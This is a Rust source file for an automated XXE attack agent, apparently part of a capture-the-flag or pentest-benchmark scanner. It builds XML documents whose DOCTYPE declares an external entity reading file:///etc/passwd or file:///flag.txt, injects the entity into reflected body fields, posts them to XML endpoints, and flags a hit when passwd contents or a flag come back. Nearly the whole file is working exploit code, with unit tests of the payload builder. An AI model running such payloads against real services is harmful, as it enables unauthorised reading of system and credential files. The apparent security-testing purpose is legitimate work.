//! XXE agent: external-entity documents against XML endpoints, with the
//! entity referenced in a reflected field.

use async_trait::async_trait;

use super::{Agent, AgentCx, AgentError, AgentOutput};
use crate::http::RequestSpec;
use crate::state::{
    AttemptOutcome, Channel, ContentKind, Endpoint, Evidence, EvidenceDetail, Finding,
    InjectionPoint, VulnClass,
};

const ENTITY_TARGETS: [&str; 2] = ["file:///flag.txt", "file:///etc/passwd"];
const PASSWD_SENTINEL: &str = "root:x:0:0";

/// Build the attack document: a DOCTYPE declaring the external entity, with
/// one field's content replaced by the entity reference.
fn build_doc(template: &str, field: &str, target: &str) -> Option<String> {
    let open = format!("<{field}>");
    let close = format!("</{field}>");
    let start = template.find(&open)?;
    let end = template[start..].find(&close)? + start;
    let doctype = format!("<!DOCTYPE data [<!ENTITY awe SYSTEM \"{target}\">]>");
    let (head, tail) = template.split_at(start + open.len());
    let tail = &tail[end - (start + open.len())..];
    // The DOCTYPE goes after any XML declaration, before the root element.
    let doc = format!("{head}&awe;{tail}");
    Some(match doc.find("?>") {
        Some(idx) => format!("{}{}{}", &doc[..idx + 2], doctype, &doc[idx + 2..]),
        None => format!("{doctype}{doc}"),
    })
}

/// Finding iff the sentinel (or flag) content comes back reflected; a
/// malformed-XML rejection is recorded but is not a finding.
pub async fn xxe_scan(
    cx: &mut AgentCx<'_>,
    endpoint: &Endpoint,
) -> Result<Option<Finding>, AgentError> {
    if endpoint.content_type != ContentKind::Xml {
        return Ok(None);
    }
    let Some(template) = endpoint.body_template.clone() else {
        return Ok(None);
    };
    let fields: Vec<InjectionPoint> = cx
        .state
        .surface
        .iter()
        .filter(|p| {
            p.channel == Channel::BodyField
                && p.endpoint.url == endpoint.url
                && p.endpoint.method == endpoint.method
        })
        .cloned()
        .collect();

    for target in ENTITY_TARGETS {
        for field in &fields {
            if cx.out_of_time() {
                return Ok(None);
            }
            let Some(doc) = build_doc(&template, &field.name, target) else { continue };
            if cx.suppressed(&field.key(), VulnClass::Xxe, doc.as_bytes()) {
                continue;
            }
            let mut spec = RequestSpec::post(
                endpoint.url.clone(),
                doc.clone().into_bytes(),
                "application/xml",
            )
            .phase("probe");
            if let Some(s) = cx.session.clone() {
                spec.session = Some(s);
            }
            let resp = cx.engine.send(spec).await?;
            let body = resp.body_text().into_owned();
            let flag = cx.flag_in(body.as_bytes());
            let sentinel = body.contains(PASSWD_SENTINEL);
            if resp.status >= 400 {
                // Parser rejected the document; recorded, not a finding.
                cx.register(
                    &field.key(),
                    VulnClass::Xxe,
                    doc.as_bytes(),
                    AttemptOutcome::Blocked,
                    body.as_bytes(),
                );
                continue;
            }
            if flag.is_none() && !sentinel {
                cx.register(
                    &field.key(),
                    VulnClass::Xxe,
                    doc.as_bytes(),
                    AttemptOutcome::NoSignal,
                    body.as_bytes(),
                );
                continue;
            }
            let data = if sentinel {
                PASSWD_SENTINEL.as_bytes().to_vec()
            } else {
                flag.clone().unwrap_or_default().into_bytes()
            };
            let finding = Finding {
                vuln_class: VulnClass::Xxe,
                point: field.key(),
                payload: doc.clone().into_bytes(),
                evidence: Evidence {
                    detail: EvidenceDetail::ExtractedData { data },
                    request_trace: vec![resp.request.clone()],
                },
                solved_flag: flag,
                elapsed_s: cx.elapsed_s(),
                tokens_spent: cx.tokens_spent(),
                exploit_attempts: 1,
            };
            cx.emit_finding(finding.clone(), body.as_bytes());
            return Ok(Some(finding));
        }
    }
    Ok(None)
}

pub struct XxeAgent;

#[async_trait]
impl Agent for XxeAgent {
    fn class(&self) -> VulnClass {
        VulnClass::Xxe
    }

    async fn run(&self, cx: &mut AgentCx<'_>) -> Result<AgentOutput, AgentError> {
        let mut output = AgentOutput::default();
        let endpoints: Vec<Endpoint> = {
            let mut seen = std::collections::BTreeSet::new();
            cx.state
                .surface
                .iter()
                .map(|p| p.endpoint.clone())
                .filter(|e| e.content_type == ContentKind::Xml)
                .filter(|e| seen.insert(e.url.to_string()))
                .collect()
        };
        for endpoint in endpoints {
            if cx.out_of_time() {
                break;
            }
            match xxe_scan(cx, &endpoint).await {
                Ok(Some(_)) => {
                    output.findings_added += 1;
                    if cx.state.solved() {
                        break;
                    }
                }
                Ok(None) => {}
                Err(err) if err.is_budget() => return Err(err),
                Err(err) => tracing::debug!(%err, "xxe scan failed"),
            }
        }
        Ok(output)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn attack_document_declares_entity_and_references_it() {
        let template = "<?xml version=\"1.0\"?><order><item>widget</item><note>hello</note></order>";
        let doc = build_doc(template, "note", "file:///flag.txt").unwrap();
        assert!(doc.starts_with("<?xml version=\"1.0\"?><!DOCTYPE data"));
        assert!(doc.contains("<!ENTITY awe SYSTEM \"file:///flag.txt\">"));
        assert!(doc.contains("<note>&awe;</note>"));
        assert!(doc.contains("<item>widget</item>"), "other fields untouched");
    }

    #[test]
    fn missing_field_yields_no_doc() {
        assert!(build_doc("<order><a>1</a></order>", "nope", "file:///x").is_none());
    }
}
